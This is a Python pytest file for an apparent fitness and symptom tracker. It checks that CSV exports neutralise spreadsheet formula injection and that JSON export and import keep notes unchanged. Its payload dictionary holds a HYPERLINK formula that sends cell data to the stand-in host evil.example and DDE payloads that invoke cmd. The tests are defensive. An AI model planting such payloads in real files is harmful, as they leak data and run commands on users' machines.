"""CSV formula injection (OWASP): a note a spreadsheet would run is written as text."""

import csv
import io
import json
import zipfile
from decimal import Decimal

import pytest
import time_machine

from symptoms.models import Episode
from tests.factories import BodyWeightFactory, EpisodeFactory, UserFactory, WorkoutFactory
from tests.reports.conftest import NOW
from tracker.models import Workout

pytestmark = pytest.mark.django_db
EXPORT = "/api/v1/export/"
IMPORT = "/api/v1/import/"

FORMULAS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"see doctor")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}


@pytest.fixture(autouse=True)
def frozen_clock():
    with time_machine.travel(NOW, tick=False):
        yield


def body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def csv_rows(client, name: str) -> list[dict[str, str]]:
    response = client.get(EXPORT, {"format": "csv"})
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(body(response)))
    text = archive.read(name).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("note", FORMULAS.values(), ids=FORMULAS.keys())
def test_a_note_that_would_run_as_a_formula_is_written_as_text(user, auth_client, note):
    workout = WorkoutFactory(user=user, notes=note, duration_minutes=45, intensity=7)
    EpisodeFactory(user=user, workout=workout, notes=note, severity=4)

    [workout_row] = csv_rows(auth_client, "workouts.csv")
    [episode_row] = csv_rows(auth_client, "episodes.csv")

    assert workout_row["notes"] == "'" + note
    assert episode_row["notes"] == "'" + note
    # The numbers stay numbers a spreadsheet can sum.
    assert workout_row["duration_minutes"] == "45"
    assert workout_row["intensity"] == "7"
    assert episode_row["severity"] == "4"


def test_plain_notes_and_numbers_are_written_unchanged(user, auth_client):
    WorkoutFactory(user=user, notes="Felt fine, 3 km", duration_minutes=30)
    BodyWeightFactory(user=user, weight_kg=Decimal("72.5"))

    [workout_row] = csv_rows(auth_client, "workouts.csv")
    [weight_row] = csv_rows(auth_client, "body_weights.csv")

    assert workout_row["notes"] == "Felt fine, 3 km"
    assert workout_row["duration_minutes"] == "30"
    assert weight_row["weight_kg"] == "72.5"


def test_json_export_keeps_the_note_raw_and_import_gives_it_back(user, auth_client, client_for):
    note = FORMULAS["="]
    EpisodeFactory(user=user, notes=note)
    WorkoutFactory(user=user, notes=FORMULAS["-"])

    exported = json.loads(body(auth_client.get(EXPORT, {"format": "json"})))
    assert exported["episodes"][0]["notes"] == note
    newcomer = UserFactory()
    assert client_for(newcomer).post(IMPORT, exported, format="json").status_code == 201

    assert Episode.objects.get(user=newcomer).notes == note
    assert Workout.objects.get(user=newcomer).notes == FORMULAS["-"]
